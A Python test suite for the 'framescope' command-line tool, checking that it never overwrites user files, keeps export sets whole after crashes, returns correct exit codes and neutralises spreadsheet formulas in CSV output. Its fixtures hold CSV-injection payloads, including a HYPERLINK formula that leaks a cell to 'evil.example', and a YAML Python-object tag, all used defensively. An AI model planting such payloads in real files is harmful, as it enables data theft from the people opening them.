"""Failure behaviour of ``framescope score`` and the exit codes of every command (docs/failures.md).

Each test reproduces a case that lost or corrupted data, or
ended in a traceback with the wrong exit code, before the fix.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from cli_checks import one_error_line
from framescope.cli import _register, app
from framescope.inference import exports as ex

_register()
runner = CliRunner()


def run(*args, input=None, catch_exceptions=True):
    return runner.invoke(app, [str(a) for a in args], input=input, catch_exceptions=catch_exceptions)


def _write_csv(path: Path, rows: list[dict]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, ["id", "lang", "text"])
        w.writeheader()
        w.writerows(rows)
    return path


def _articles(prefix: str, n: int) -> list[dict]:
    return [
        {
            "id": f"{prefix}-{i:03d}",
            "lang": "en",
            "text": f"Article {prefix} {i}. The cowardly traitors sold us out. Heroic patriots will never give up!",
        }
        for i in range(n)
    ]


def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# -- item 1: never overwrite what framescope did not write ---------------------------------


def test_an_input_inside_out_is_refused_and_left_untouched(model_dir, tmp_path):
    feed = tmp_path / "feed"
    feed.mkdir()
    src = _write_csv(feed / "articles.csv", _articles("a", 3))
    before = _tree(feed)
    res = run("score", "-q", src, "--model", model_dir, "--out", feed)
    assert res.exit_code == 2
    assert "inside --out" in one_error_line(res)
    assert _tree(feed) == before and sorted(p.name for p in feed.iterdir()) == ["articles.csv"]


@pytest.mark.parametrize("overwrite", [False, True])
def test_a_folder_framescope_did_not_write_is_refused(model_dir, tmp_path, overwrite):
    src = _write_csv(tmp_path / "in.csv", _articles("a", 3))
    out = tmp_path / "out"
    out.mkdir()
    (out / "spans.csv").write_text("my own spreadsheet\n")
    (out / "notes.txt").write_text("keep me\n")
    before = _tree(out)
    res = run("score", "-q", src, "--model", model_dir, "--out", out, *(["--overwrite"] if overwrite else []))
    assert res.exit_code == 2
    assert "did not write" in one_error_line(res)
    assert _tree(out) == before and not (out / ".framescope-journal").exists()


def test_a_users_file_named_like_an_export_in_a_framescope_folder_is_refused(model_dir, tmp_path):
    src = _write_csv(tmp_path / "in.csv", _articles("a", 3))
    out = tmp_path / "out"
    assert run("score", "-q", src, "--model", model_dir, "--out", out, "--format", "jsonl").exit_code == 0
    (out / "articles.csv").write_text("the user's own file\n")
    res = run("score", "-q", src, "--model", model_dir, "--out", out, "--overwrite")  # all formats
    assert res.exit_code == 2
    assert "'articles.csv' was not written by framescope" in one_error_line(res)
    assert (out / "articles.csv").read_text() == "the user's own file\n"


def test_a_first_run_killed_before_its_journal_meta_can_be_rerun(model_dir, tmp_path):
    out = tmp_path / "out"
    (out / ".framescope-journal").mkdir(parents=True)
    (out / ".framescope-journal" / "lock").touch()
    src = _write_csv(tmp_path / "in.csv", _articles("a", 2))
    res = run("score", "-q", src, "--model", model_dir, "--out", out)
    assert res.exit_code == 0, res.output


def test_overwrite_replaces_only_framescopes_files_and_generations_rotate(model_dir, tmp_path):
    out = tmp_path / "out"
    first = _write_csv(tmp_path / "first.csv", _articles("a", 3))
    second = _write_csv(tmp_path / "second.csv", _articles("b", 2))
    assert run("score", "-q", first, "--model", model_dir, "--out", out).exit_code == 0
    (out / "notes.txt").write_text("keep me\n")
    for generation in (2, 3):
        res = run("score", "-q", second, "--model", model_dir, "--out", out, "--overwrite")
        assert res.exit_code == 0, res.output
        manifest = json.loads((out / "manifest.json").read_text())
        assert manifest["generation"] == generation and manifest["articles"] == 2
    assert (out / "notes.txt").read_text() == "keep me\n"
    assert [r["id"] for r in pq.read_table(out / "articles.parquet").to_pylist()] == ["b-000", "b-001"]
    # the published set and its predecessor are kept, older ones pruned
    assert sorted(p.name for p in (out / "generations").iterdir()) == ["000002", "000003"]
    assert os.readlink(out / "current") == "generations/000003"


def test_a_folder_written_before_generations_is_adopted(model_dir, tmp_path):
    """An export set of framescope 1.0 (real files at the top level) is a framescope folder."""
    src = _write_csv(tmp_path / "in.csv", _articles("a", 3))
    out = tmp_path / "out"
    assert run("score", "-q", src, "--model", model_dir, "--out", out).exit_code == 0
    _to_legacy_layout(out)
    res = run("score", "-q", src, "--model", model_dir, "--out", out)
    assert res.exit_code == 0, res.output
    assert all((out / n).is_symlink() for n in ("results.jsonl", "articles.csv", "manifest.json"))
    assert json.loads((out / "manifest.json").read_text())["generation"] == 2


def _to_legacy_layout(out: Path) -> None:
    """Rewrite a folder as framescope 1.0 left it: real files at the top level, no generations."""
    for p in list(out.iterdir()):
        if p.is_symlink() and p.name != "current":
            real = p.resolve()
            p.unlink()
            shutil.copyfile(real, p)
    (out / "current").unlink()
    shutil.rmtree(out / "generations")
    manifest = json.loads((out / "manifest.json").read_text())
    del manifest["generation"]  # 1.0 manifests have none
    (out / "manifest.json").write_text(json.dumps(manifest))


class _Killed(BaseException):
    """Nothing in framescope catches it: the process stops where it is, as with a kill."""


@pytest.mark.slow
def test_an_adoption_cut_short_keeps_the_set_whole(model_dir, tmp_path, monkeypatch):
    """Killed after the switch, while top-level files are being replaced by symlinks."""
    from framescope.inference import outdir

    first = _write_csv(tmp_path / "first.csv", _articles("a", 4))
    out = tmp_path / "out"
    assert run("score", "-q", first, "--model", model_dir, "--out", out).exit_code == 0
    _to_legacy_layout(out)
    old_ids = _reader_view(out)

    real = outdir._symlink_atomically
    second = _write_csv(tmp_path / "second.csv", _articles("b", 2))

    def run_until(die):
        calls = []

        def link(target, path):
            calls.append(path.name)
            if die(calls):
                raise _Killed()
            return real(target, path)

        monkeypatch.setattr(outdir, "_symlink_atomically", link)
        with pytest.raises(_Killed):
            run("score", "-q", second, "--model", model_dir, "--out", out, catch_exceptions=False)
        monkeypatch.undo()

    # dies after the adopted generation is switched in, while replacing the 2nd top-level file
    run_until(lambda calls: len(calls) == 3)
    assert (out / "current").is_symlink() and any(p.is_symlink() for p in out.iterdir() if p.name != "current")
    assert _reader_view(out) == old_ids  # half adopted: still the old set, whole
    # the next run adopts the rest and dies just before publishing its own set
    run_until(lambda calls: calls.count("current") == 2)
    assert _reader_view(out) == old_ids

    res = run("score", "-q", second, "--model", model_dir, "--out", out)
    assert res.exit_code == 0, res.output
    assert _reader_view(out) == {"b-000", "b-001"}


def test_report_does_not_overwrite_a_users_index_html(model_dir, tmp_path):
    src = _write_csv(tmp_path / "in.csv", _articles("a", 2))
    assert run("score", "-q", src, "--model", model_dir, "--out", tmp_path / "out").exit_code == 0
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("<html>the team's own page</html>")
    res = run("report", tmp_path / "out", "--out", site)
    assert res.exit_code == 2
    assert "not a framescope report page" in one_error_line(res)
    assert (site / "index.html").read_text() == "<html>the team's own page</html>"
    assert run("report", tmp_path / "out", "--out", tmp_path / "report").exit_code == 0
    assert run("report", tmp_path / "out", "--out", tmp_path / "report").exit_code == 0  # its own pages: replaced


# -- item 3: the export set is all-or-nothing ----------------------------------------------

# Runs ``framescope score`` with every rename, replace and unlink outside the journal
# counted; at the PAUSE_AT-th it says so on stderr and sleeps until it is killed.
PAUSING_SCORE = r"""
import os, sys, time
pause_at = int(os.environ["PAUSE_AT"])
count = 0
def hook(real):
    def call(*args, **kwargs):
        global count
        target = str(args[1] if len(args) > 1 else args[0])
        if ".framescope-journal" not in target:
            count += 1
            print(f"STEP {count} {target}", file=sys.stderr, flush=True)
            if count == pause_at:
                print("PAUSED", file=sys.stderr, flush=True)
                time.sleep(600)
        return real(*args, **kwargs)
    return call
os.replace, os.rename, os.unlink = hook(os.replace), hook(os.rename), hook(os.unlink)
from framescope.cli import main
sys.argv = ["framescope", *sys.argv[1:]]
main()
"""


def _reader_view(out: Path) -> set[str]:
    """What a reader of the top-level names sees; asserts it is one consistent set."""
    manifest = json.loads((out / "manifest.json").read_text())
    results = [json.loads(line)["id"] for line in (out / "results.jsonl").read_text().splitlines()]
    art_pq = pq.read_table(out / "articles.parquet").column("id").to_pylist()
    span_pq = set(pq.read_table(out / "spans.parquet").column("article_id").to_pylist())
    with open(out / "articles.csv", newline="", encoding="utf-8") as fh:
        art_csv = [r["id"] for r in csv.DictReader(fh)]
    with open(out / "spans.csv", newline="", encoding="utf-8") as fh:
        span_csv = {r["article_id"] for r in csv.DictReader(fh)}
    labelstudio = [t["data"]["id"] for t in json.loads((out / "labelstudio.json").read_text())]
    ids = set(results)
    assert results == art_pq == art_csv == labelstudio, "files of different runs"
    assert span_pq == span_csv and span_pq <= ids, "spans of articles that are not in articles"
    assert manifest["articles"] == len(results), "manifest of another run"
    if "generation" in manifest:
        assert os.readlink(out / "current") == f"generations/{manifest['generation']:06d}"
    return ids


@pytest.mark.slow
def test_kill_9_during_the_export_phase_leaves_one_complete_set(model_dir, tmp_path):
    first = _write_csv(tmp_path / "first.csv", _articles("a", 40))
    second = _write_csv(tmp_path / "second.csv", _articles("b", 30))
    base = tmp_path / "base"
    for _ in range(2):  # two generations, so that publishing a third prunes the first after the switch
        assert run("score", "-q", first, "--model", model_dir, "--out", base).exit_code == 0
    old_ids = _reader_view(base)
    args = [
        sys.executable,
        "-c",
        PAUSING_SCORE,
        "score",
        "-q",
        str(second),
        "--model",
        str(model_dir),
        "--overwrite",
        "--out",
    ]

    # a full run, to learn the steps of the export phase
    dry = tmp_path / "dry"
    shutil.copytree(base, dry, symlinks=True)
    proc = subprocess.run(
        args + [str(dry)], env=dict(os.environ, PAUSE_AT="0"), capture_output=True, text=True, timeout=300
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    new_ids = _reader_view(dry)
    assert new_ids.isdisjoint(old_ids) and len(new_ids) == 30
    steps = [line.split(" ", 2)[2] for line in proc.stderr.splitlines() if line.startswith("STEP ")]
    assert len(steps) >= 5, steps
    # evenly spread moments, plus the last step before and the first after the switch where there is one
    moments = {1 + round(i * (len(steps) - 1) / 4) for i in range(5)}
    switch = [i + 1 for i, target in enumerate(steps) if target.endswith("/current")]
    moments |= {s for k in switch for s in (k - 1, k, k + 1) if 1 <= s <= len(steps)}

    seen = {}
    for k in sorted(moments):
        out = tmp_path / f"killed-{k}"
        shutil.copytree(base, out, symlinks=True)
        proc = subprocess.Popen(
            args + [str(out)],
            env=dict(os.environ, PAUSE_AT=str(k)),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
        )
        deadline = time.time() + 300
        for line in proc.stderr:
            if line.startswith("PAUSED") or time.time() > deadline:
                break
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
        proc.stderr.close()
        ids = _reader_view(out)
        assert ids in (old_ids, new_ids), f"kill at step {k} ({steps[k - 1]}): a mixed set"
        seen[k] = "new" if ids == new_ids else "old"
    assert set(seen.values()) == {"old", "new"}, f"the kills should land before and after the switch: {seen}"

    for k in seen:  # the next run cleans the leftovers and publishes the new set
        out = tmp_path / f"killed-{k}"
        res = run("score", "-q", second, "--model", model_dir, "--out", out)
        assert res.exit_code == 0, res.output
        assert _reader_view(out) == new_ids
        leftovers = [str(p.relative_to(out)) for p in out.rglob("*") if p.name.endswith((".tmp", ".staging"))]
        assert leftovers == [], (k, leftovers)
        assert len(list((out / "generations").iterdir())) <= 2


# -- item 5: exit codes, one line, no traceback --------------------------------------------


def test_unwritable_out_exits_3_with_one_line(model_dir, tmp_path):
    src = _write_csv(tmp_path / "in.csv", _articles("a", 2))
    res = run("score", "-q", src, "--model", model_dir, "--out", "/proc/framescope-test-out")
    assert res.exit_code == 3
    assert "cannot write" in one_error_line(res)


def test_full_disk_during_the_exports_exits_3_and_keeps_the_previous_set(model_dir, tmp_path, monkeypatch):
    out = tmp_path / "out"
    first = _write_csv(tmp_path / "first.csv", _articles("a", 3))
    assert run("score", "-q", first, "--model", model_dir, "--out", out).exit_code == 0
    old_ids = _reader_view(out)

    import framescope.labels.atomic as atomic

    real_fsync = os.fsync

    def fsync(fd):  # the disk fills up while the exports are written (their temp files)
        if os.readlink(f"/proc/self/fd/{fd}").endswith(".tmp"):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_fsync(fd)

    monkeypatch.setattr(atomic.os, "fsync", fsync)
    second = _write_csv(tmp_path / "second.csv", _articles("b", 3))
    res = run("score", "-q", second, "--model", model_dir, "--out", out)
    assert res.exit_code == 3
    assert "No space left on device" in one_error_line(res)
    monkeypatch.undo()
    assert _reader_view(out) == old_ids


def test_a_model_whose_techniques_do_not_match_its_taxonomy_exits_2(model_dir, tmp_path):
    bad = tmp_path / "bad-model"
    shutil.copytree(model_dir, bad)
    settings_file = bad / "framescope.json"
    s = json.loads(settings_file.read_text())
    s["techniques"][0] = "Not_A_Technique"
    settings_file.write_text(json.dumps(s))
    src = _write_csv(tmp_path / "in.csv", _articles("a", 2))
    res = run("score", "-q", src, "--model", bad, "--out", tmp_path / "out")
    assert res.exit_code == 2
    assert "Not_A_Technique" in one_error_line(res)
    assert not (tmp_path / "out").exists()


def test_a_yaml_tag_in_set_exits_2(tmp_path):
    res = run(
        "train", "quickstart", "--set", "training.epochs=!!python/object/apply:os.getcwd []", "-o", tmp_path / "model"
    )
    assert res.exit_code == 2
    assert "--set training.epochs" in one_error_line(res)
    assert not (tmp_path / "model").exists()


def test_evaluate_on_data_of_unknown_format_exits_2(model_dir, tmp_path):
    src = _write_csv(tmp_path / "gold.csv", _articles("a", 2))
    res = run("evaluate", model_dir, src)
    assert res.exit_code == 2
    assert "cannot tell the format" in one_error_line(res)


def test_data_convert_with_problems_exits_2_and_writes_nothing(tmp_path):
    bad = tmp_path / "bad.jsonl"
    bad.write_text(
        json.dumps({"id": "x", "text": "abc", "spans": [{"start": 0, "end": 9, "technique": "Doubt"}]}) + "\n"
    )
    res = run("data", "convert", bad, "--to", "jsonl", "-o", tmp_path / "out.jsonl")
    assert res.exit_code == 2
    assert not (tmp_path / "out.jsonl").exists()


def test_export_onnx_of_a_linear_model_exits_2(model_dir):
    res = run("export-onnx", model_dir)
    assert res.exit_code == 2
    assert "only transformer taggers" in one_error_line(res)


def test_calibrate_a_missing_model_exits_2(tmp_path):
    res = run("calibrate", tmp_path / "no-model", "quickstart")
    assert res.exit_code == 2
    assert "no-model" in one_error_line(res)


def test_a_bug_exits_4_with_its_traceback(monkeypatch, tmp_path, model_dir):
    import framescope.inference.batch as inference_batch

    def broken(*args, **kwargs):
        raise RuntimeError("a bug")

    monkeypatch.setattr(inference_batch, "run_score", broken)  # after the checks before scoring pass
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text("Die feigen Verräter.", encoding="utf-8")
    res = run("score", "-q", tmp_path / "in", "--model", model_dir, "--out", tmp_path / "out")
    assert res.exit_code == 4
    assert "RuntimeError: a bug" in res.output and "internal error" in res.output


# -- item 6: safe CSV exports ----------------------------------------------------------------

EVIL = [
    {"id": '=HYPERLINK("http://evil.example/?leak="&A1,"x")', "lang": "=1+1", "text": "=SUM(A1) The traitors lie."},
    {"id": "@SUM(A1)", "lang": "english", "text": "Heroes! Cowards!"},
    {"id": "-2+3", "lang": "../../x<script>", "text": "+Cowards and traitors."},
    {"id": "'quoted", "lang": "123", "text": "Die feigen Verräter."},
    {"id": "ok", "lang": "de", "text": "Die feigen Verräter haben uns verkauft."},
]


def test_formulas_are_neutralised_in_csv_and_lang_is_validated(model_dir, tmp_path):
    src = _write_csv(tmp_path / "evil.csv", EVIL)
    out = tmp_path / "out"
    res = run("score", "-q", src, "--model", model_dir, "--out", out)
    assert res.exit_code == 0, res.output  # warnings do not change the exit code

    # Parquet and JSONL: exact ids; invalid languages are null
    exact = pq.read_table(out / "articles.parquet").to_pylist()
    assert [r["id"] for r in exact] == [r["id"] for r in EVIL]
    assert [r["lang"] for r in exact] == [None, None, None, None, "de"]
    results = [json.loads(line) for line in (out / "results.jsonl").read_text().splitlines()]
    assert [r["lang"] for r in results] == [None, None, None, None, "de"]
    errors = [json.loads(line) for line in (out / "errors.jsonl").read_text().splitlines()]
    assert [(e["id"], e["level"]) for e in errors] == [(r["id"], "warning") for r in EVIL[:4]]
    assert "'english' is not an ISO 639-1 code" in errors[1]["reason"]

    # CSV: no cell starts like a formula; removing one leading ' gives the exact value back
    def cells(name):
        with open(out / name, newline="", encoding="utf-8") as fh:
            return list(csv.DictReader(fh))

    for name in ("articles.csv", "spans.csv", "errors.csv"):
        for row in cells(name):
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    articles = cells("articles.csv")
    assert articles[0]["id"] == "'" + EVIL[0]["id"] and articles[3]["id"] == "''quoted"
    assert [r["id"][1:] if r["id"].startswith("'") else r["id"] for r in articles] == [r["id"] for r in EVIL]
    assert [r["id"] for r in cells("errors.csv")] == ["'" + r["id"] for r in EVIL[:4]]
    spans = pq.read_table(out / "spans.parquet").to_pylist()
    assert [r["text"] for r in cells("spans.csv")] == [
        ("'" + s["text"]) if s["text"][:1] in "=+-@\t\r'" and s["text"] else s["text"] for s in spans
    ]


def test_an_invalid_lang_option_exits_2(model_dir, tmp_path):
    src = _write_csv(tmp_path / "in.csv", _articles("a", 1))
    res = run("score", "-q", src, "--model", model_dir, "--out", tmp_path / "out", "--lang", "english")
    assert res.exit_code == 2
    assert "ISO 639-1" in one_error_line(res)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text()), min_size=1, max_size=8))
def test_neutralising_is_reversible_and_leaves_no_formula(values):
    import pyarrow as pa
    import pyarrow.csv as pacsv

    # a second column, as in every export: a null alone on its line would be an empty line
    table = pa.table({"cell": pa.array(values, pa.string()), "n": list(range(len(values)))})
    buf = io.BytesIO()
    pacsv.write_csv(ex.neutralise_formulas(table), buf)
    back = pacsv.read_csv(
        io.BytesIO(buf.getvalue()),
        parse_options=pacsv.ParseOptions(newlines_in_values=True),
        convert_options=pacsv.ConvertOptions(
            column_types={"cell": pa.string(), "n": pa.int64()},
            strings_can_be_null=True,
            quoted_strings_can_be_null=False,
        ),
    )
    for original, written in zip(values, back.column("cell").to_pylist()):
        if original is None:
            assert written is None
            continue
        assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert (written[1:] if written.startswith("'") else written) == original


def test_spark_engine_never_replaces_a_folder_it_did_not_write(tmp_path):
    """``score --engine spark --overwrite`` into a user's folder is refused (exit 2) before Spark
    starts, as is an input inside ``--out``; the user's files stay (before: the tables replaced
    whatever the folder held under their names)."""
    from typer.testing import CliRunner

    from framescope.cli import _register, app

    _register()
    user = tmp_path / "reports"
    (user / "articles").mkdir(parents=True)
    (user / "articles" / "q3.xlsx").write_bytes(b"the analyst's own file")
    feed = tmp_path / "feed.parquet"
    feed.write_bytes(b"PAR1")
    args = ["score", "--engine", "spark", "--model", "models:/framescope@candidate"]
    res = CliRunner().invoke(app, [*args, "--input", str(feed), "--out", str(user), "--overwrite"])
    assert res.exit_code == 2 and "did not write" in " ".join(res.output.split()), res.output
    assert (user / "articles" / "q3.xlsx").read_bytes() == b"the analyst's own file"

    inside = user / "feed.parquet"
    inside.write_bytes(b"PAR1")
    (user / "articles" / "q3.xlsx").unlink()
    (user / "articles").rmdir()
    res = CliRunner().invoke(app, [*args, "--input", str(inside), "--out", str(user), "--overwrite"])
    assert res.exit_code == 2 and "inside --out" in " ".join(res.output.split()), res.output
    assert inside.read_bytes() == b"PAR1"
